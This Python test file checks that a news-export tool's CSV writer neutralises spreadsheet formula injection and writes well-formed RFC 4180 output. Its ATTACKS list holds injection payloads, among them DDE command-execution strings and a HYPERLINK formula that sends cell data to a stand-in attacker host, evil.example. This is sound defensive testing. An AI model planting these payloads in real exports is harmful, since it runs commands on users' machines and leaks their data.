"""CSV: what spreadsheets read, and nothing that they run."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st
from library_examples import FULL, articles
from stored_examples import stored, written

from newsgrab.jobs.exporting.csv_rows import ARTICLE_COLUMNS, QA_COLUMNS, disarmed
from newsgrab.model import Article, Author, QABlock, Tag

ATTACKS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"Error")',
    "+1+1",
    "-2+3+cmd|' /C calc'!D2",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\ttabbed",
    "\rreturned",
    " =1+1",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\x0b-1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
    "=",
    "-",
]


def rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode(), newline=""), strict=True))


@pytest.mark.parametrize("attack", ATTACKS)
def test_formulas_are_disarmed(attack: str) -> None:
    """Whatever a spreadsheet may take for a formula has an apostrophe before it, in every column that is text."""
    article = Article(
        url="https://a.example/",
        **dict.fromkeys(["title", "lead", "description", "site_name", "section"], attack),
        tags=[Tag(name=attack)],
        authors=[Author(name=attack)],
        qa=[QABlock(position=1, question=attack, answer=attack, asker=attack, answerer=attack)],
    )
    for which in ("articles", "qa"):
        head, cells = rows(written("csv", [stored(article)], rows=which))
        row = dict(zip(head, cells, strict=True))
        said = attack.replace("\x00", "\ufffd")
        hit = [column for column, cell in row.items() if cell.lstrip("'") == said]
        assert len(hit) >= 5
        assert {row[column] for column in hit} == {f"'{said}"}


@pytest.mark.parametrize("plain", ["Ferry", "— Да", "1 = 1", "’tis", "a@b.example", "№ 5", "«=»", "3-0"])
def test_plain_text_stays(plain: str) -> None:
    """Text that only holds such signs stays as it is."""
    assert disarmed(plain) == plain


@given(st.text())
def test_no_cell_begins_with_a_sign(text: str) -> None:
    """Nothing that is left begins with a sign, whatever white space comes first."""
    cell = disarmed(text)
    assert not cell.strip().startswith(("=", "+", "-", "@", "＝", "＋", "－", "＠"))
    assert not cell.startswith(("\t", "\r", "\n"))
    assert cell in (text.replace("\x00", "\ufffd"), "'" + text.replace("\x00", "\ufffd"))


@given(article=articles())
def test_rows_read_back(article: Article) -> None:
    """Any article is one row of as many cells as there are columns, for a strict reader too."""
    content = written("csv", [stored(article), stored(article, id=2)])
    head, first, second = rows(content)
    assert tuple(head) == ARTICLE_COLUMNS
    assert len(first) == len(second) == len(head)
    row = dict(zip(head, first, strict=True))
    assert row["text"] == disarmed(article.text)
    assert row["questions"] == str(len(article.qa))
    head, *questions = rows(written("csv", [stored(article)], rows="qa"))
    assert tuple(head) == QA_COLUMNS
    assert [dict(zip(head, cells, strict=True))["answer"] for cells in questions] == [
        disarmed(block.answer) for block in article.qa
    ]


def test_the_form_of_rfc_4180() -> None:
    """Lines end in CRLF, quotes are doubled, and a byte order mark comes only where it is asked for."""
    article = FULL.model_copy(update={"title": 'A "B", C\nD'})
    content = written("csv", [stored(article)])
    assert content.count(b"\r\n") == 2
    assert b'"A ""B"", C\nD"' in content
    assert not content.startswith(b"\xef\xbb\xbf")
    assert written("csv", [stored(article)], byte_order_mark=True) == b"\xef\xbb\xbf" + content
